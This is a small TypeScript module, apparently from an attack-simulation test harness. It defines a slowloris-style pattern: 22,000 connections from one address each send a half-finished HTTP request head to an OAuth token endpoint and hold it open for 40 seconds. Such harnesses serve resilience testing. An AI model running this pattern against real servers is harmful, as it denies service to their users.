import { openRaw } from '../attackers.ts'
import { openMany } from '../openMany.ts'
import type { Pattern } from '../pattern.ts'

const half = 'POST /auth/oauth2/token HTTP/1.1\r\nhost: school\r\nx-begun: '

export const pattern: Pattern = {
  what: '22,000 connections from one address that send half a head',
  seconds: 40,
  attack: (target) => openMany(target, { count: 22_000 }, () => openRaw(target), half),
}
